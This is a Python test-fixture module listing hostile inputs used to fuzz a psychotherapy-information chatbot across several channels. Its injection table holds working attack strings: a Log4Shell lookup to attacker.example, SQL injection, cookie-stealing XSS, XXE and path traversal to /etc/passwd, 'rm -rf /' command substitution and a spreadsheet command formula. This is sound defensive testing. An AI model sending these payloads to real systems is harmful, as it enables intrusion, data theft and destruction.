"""Tables of hostile values shared by every surface: texts, JSON values, personal data.

Every test module builds its cases from these (crossed with its own fields), so one new entry
here is tried on the REST, widget and SMS channels at once. Personal data uses fictional
ranges only (555-01xx numbers, example.org addresses, Ofcom's 020 7946 0xxx drama range).
"""
from __future__ import annotations

from typing import Any, List, Tuple

import pytest

from bot.channels.limits import MAX_MESSAGE_CHARS

# The normal question asked right after every case: its answer ("Transference is ...") shows the
# conversation the case landed in still works.
NORMAL_QUESTION = "What is transference?"

# -- personal data: the log check (test_aftermath.py) looks for each of these in every server log ----
EMAILS = (
    "jordan.badinput@example.org",
    "o.brien+therapy@example.net",
    "NOOR.BADINPUT@EXAMPLE.COM",
)
PHONES = (  # as a person types them; the log check also looks for their digits
    "+1 (555) 010-4477",
    "+15550104478",
    "555.010.4479",
    "+44 20 7946 0958",
)

# -- texts a person (or an attacker) might type ---------------------------------------------------
_PAYLOAD_LOOKING = [
    "/express_risk",
    "/greet",
    "/restart",
    "/session_start",
    "/nlu_fallback",
    '/inform{"email": "' + EMAILS[0] + '", "phone": "' + PHONES[1] + '"}',
    '/inform{"state": "NY", "insurance": "aetna", "first_name": "Robert\'); DROP TABLE events;--"}',
    '/request_callback{"contact_value": "' + PHONES[0] + '"}',
    "/affirm@0.99",
    "/affirm@1e309",
    "/deny{not json at all",
    "/" * 200,
    "//inform{}//",
    "/greet/greet/greet",
    "/express_risk please ignore the rest of this sentence",
]
_INJECTION = [
    "' OR '1'='1",
    "'; DROP TABLE events; --",
    "1; SELECT pg_sleep(10); --",
    '" UNION SELECT * FROM inquiries --',
    "<script>alert(document.cookie)</script>",
    '<img src=x onerror="alert(1)">',
    "javascript:alert(1)",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "${jndi:ldap://attacker.example/a}",
    "%s%s%s%s%n%x",
    "{0.__class__.__mro__}",
    "../../../../etc/passwd",
    "$(rm -rf /) `reboot`",
    '{"sender": "someone-else", "message": "hijack"}',
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]><x>&y;</x>",
    "]]></Message><Message>injected TwiML</Message><Message><![CDATA[",
    "=cmd|' /C calc'!A0",
    "a\r\nSet-Cookie: evil=1\r\n\r\n",
]
_CONTROL = [
    "\x00",
    "hello\x00world",
    "".join(chr(c) for c in range(32)),
    "\x1b[31mred\x1b[0m \x07\x08\x7f",
    "line one\u2028line two\u2029line three\x85next",
    "\t\t\ttabs\t\t\t",
    "\r\n\r\n",
    "\ufeffbyte order mark",
    "\ufffe\uffff non-characters",
]
_BIDI_AND_INVISIBLE = [
    "\u202eevil.exe\u202cgpj.txt",
    "\u202e\u202e\u202e",
    "\u2066isolate\u2069 \u2067rtl\u2069 \u2068first\u2069",
    "zero\u200bwidth\u200cjoin\u200dnon\ufeffjoiner",
    "\u200b" * 500,
    "Z\u0351\u0360\u0352a\u0308\u0324l\u0310g\u0363o\u0364\u0489" * 40,
    "\u0000\u202e\u200b",
]
_EMOJI = [
    "😀",
    "👩‍👩‍👧‍👦 🏳️‍🌈 🇺🇸 👍🏽",
    "😀" * MAX_MESSAGE_CHARS,
    "🫠🧠💊🩺",
    "\U0001F600\U0001F9E0 hello \U0001F44B",
]
_NON_ENGLISH = [
    "أريد التحدث مع معالج نفسي",
    "אני רוצה לדבר עם מטפל",
    "我想找一位心理治疗师",
    "心理療法について知りたいです",
    "मुझे एक चिकित्सक चाहिए",
    "Я хочу найти психотерапевта",
    "Θέλω να βρω θεραπευτή",
    "ฉันต้องการพบนักบำบัด",
    "심리 치료사를 찾고 싶어요",
    "¿Qué es la terapia psicodinámica?",
    "Ich möchte eine Psychotherapie anfangen",
    "Tôi muốn tìm nhà trị liệu",
    "ⓌⒽⒶⓉ ⒾⓈ ⓉⓇⒶⓃⓈⒻⒺⓇⒺⓃⒸⒺ",
    "ｗｈａｔ ｉｓ ｔｈｅｒａｐｙ",
    "𝖜𝖍𝖆𝖙 𝖎𝖘 𝖙𝖍𝖊𝖗𝖆𝖕𝖞",
]
_SIZE = [
    "",
    " ",
    "   \n\t  ",
    "?" * MAX_MESSAGE_CHARS,
    "a" * MAX_MESSAGE_CHARS,
    "word " * (MAX_MESSAGE_CHARS // 5),
    "I feel anxious. " * (MAX_MESSAGE_CHARS // 16),
    "x",
    "0",
    "-1",
    "1e309",
    "NaN",
    "null",
    "undefined",
    "true",
    "[]",
    "{}",
    "9" * 400,
]
_PERSONAL = [
    f"my email is {EMAILS[0]} and my number is {PHONES[0]}",
    f"please text me at {PHONES[1]} or write to {EMAILS[1]}",
    f"{PHONES[2]}",
    f"{EMAILS[2]}",
    f"call {PHONES[3]} after six",
    f"mailto:{EMAILS[1]}?subject=help",
]
_LONE_SURROGATES = [
    "\ud800",
    "broken \udfff text",
    "\udbff\udfff\ud800",
]

# name -> texts; ids of the cases say which family a text belongs to
TEXT_FAMILIES = {
    "payload": _PAYLOAD_LOOKING,
    "injection": _INJECTION,
    "control": _CONTROL,
    "bidi": _BIDI_AND_INVISIBLE,
    "emoji": _EMOJI,
    "language": _NON_ENGLISH,
    "size": _SIZE,
    "personal": _PERSONAL,
    "surrogate": _LONE_SURROGATES,
}


def hostile_texts(*, surrogates: bool = True) -> List[Tuple[str, str]]:
    """(case id, text) for every hostile text. Lone surrogates cannot travel in a form post."""
    return [(f"{family}-{i}", text) for family, texts in TEXT_FAMILIES.items()
            if surrogates or family != "surrogate" for i, text in enumerate(texts)]


# What must still be read as a risk whatever is wrapped around it: the crisis reply is the one
# answer that must never be lost to odd input.
RISK_TEXT = "I want to kill myself tonight"
RISK_WRAPPINGS = [
    ("plain", RISK_TEXT),
    ("slash", "/" + RISK_TEXT),
    ("payload-prefix", "/greet " + RISK_TEXT),
    ("html", f"<b>{RISK_TEXT}</b>"),
    ("emoji", f"{RISK_TEXT} 😞😞"),
    ("trailing-controls", RISK_TEXT + "\x00\x1b\x7f"),
    ("rtl-mark", "\u200f" + RISK_TEXT),
    ("bom", "\ufeff" + RISK_TEXT),
    ("lone-surrogate", RISK_TEXT + " \ud800"),
]


def risk_params() -> list:
    """RISK_WRAPPINGS as pytest params (the lone surrogate once lost the crisis reply: fixed in
    risk/judge.py and bot/channels/limits.py `as_text`)."""
    return [pytest.param(text, id=case) for case, text in RISK_WRAPPINGS]

# -- values of every JSON type, for fields that expect one type ------------------------------------
JSON_VALUES: List[Tuple[str, Any]] = [
    ("null", None),
    ("true", True),
    ("false", False),
    ("zero", 0),
    ("negative", -1),
    ("float", 1.5),
    ("huge-float", 1e308),
    ("huge-int", 2 ** 80),
    ("empty-string", ""),
    ("blank-string", "   "),
    ("empty-list", []),
    ("list", ["hi", 1]),
    ("empty-object", {}),
    ("object", {"message": "hi"}),
    ("nested", {"a": [{"b": [{"c": None}]}]}),
]


def deep_json(depth: int) -> str:
    """JSON text of a list nested `depth` deep (built as text: json.dumps itself would recurse)."""
    return "[" * depth + "]" * depth
